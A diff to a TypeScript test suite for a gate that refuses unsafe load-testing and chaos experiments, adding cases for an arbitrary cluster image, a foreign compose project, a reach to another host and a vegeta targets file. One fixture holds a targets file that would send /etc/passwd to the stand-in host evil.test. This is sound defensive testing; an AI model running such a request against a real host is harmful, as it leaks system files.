@@ -1,7 +1,8 @@
 import assert from "node:assert/strict";
-import { cp, mkdir, symlink, writeFile } from "node:fs/promises";
+import { cp, mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
-import { describe, it, type TestContext } from "node:test";
+import { after, describe, it, type TestContext } from "node:test";
 import { fileURLToPath } from "node:url";
 import { checkConfinement } from "../../../src/assembly/confinement/check-confinement.ts";
 import { type Allowances, readConfinement } from "../../../src/assembly/confinement/confinement.ts";
@@ -66,6 +67,12 @@ async function refusals(t: TestContext, { changes, files = {}, links = {}, on = 
 }
 
 process.env.CONFINED_TEST = "somebody";
+
+/** Where there is no vegeta, a load that it sends is refused for that. */
+const bin = await mkdtemp(join(tmpdir(), "brownout-test-"));
+after(() => rm(bin, { recursive: true }));
+await writeFile(join(bin, "vegeta"), "#!/bin/sh\n", { mode: 0o755 });
+process.env.PATH = `${bin}:${process.env.PATH}`;
 
 const program = { name: "own", services: { front: { command: "node front.js" } } };
 const graph = JSON.stringify(program);
@@ -184,6 +191,36 @@ describe("what a gate refuses of an experiment, and takes where it is allowed", 
         on: "kubernetes",
         changes: { system: { kubernetes: { context: "production" } } },
         refused: /2 system.kubernetes.context: .*--context/,
+      },
+      "any image in the cluster": {
+        on: "kubernetes",
+        changes: {
+          system: { kubernetes: { namespace: "shop" } },
+          load: { from: { cluster: { image: "evil" } }, users: { request: "GET front/", rate: "1/s" } },
+        },
+        refused: /3 load.from: any image/,
+      },
+      "any project of the machine": {
+        on: "compose",
+        changes: { system: { compose: { file: "../compose.yaml", project: "other", existing: true } } },
+        files: { "compose.yaml": "services: {}" },
+        allowances: { allowStart: ["compose.yaml"] },
+        refused: /2 system.compose.project: any project/,
+      },
+      "a way in to another host": {
+        on: "kubernetes",
+        changes: { system: { kubernetes: { reach: { front: "https://evil.test" } } } },
+        refused: new RegExp(`2 system.kubernetes.reach.front: "evil.test:443" is ${nothing}`),
+        by: { allowances: { allowHost: ["evil.test:443"] } },
+      },
+      "targets of vegeta, which may be anything": {
+        changes: { load: { users: { vegeta: "targets.txt", rate: "1/s" } } },
+        files: { "experiments/targets.txt": "GET http://evil.test/\n@/etc/passwd" },
+        refused: /3 load.users.vegeta: .*write the load as a request/,
+      },
+      "a platform of which nothing is known": {
+        on: "another",
+        refused: /2 system: .*platform another/,
       },
       "services elsewhere, a listener for all, and processes": {
         on: "external",
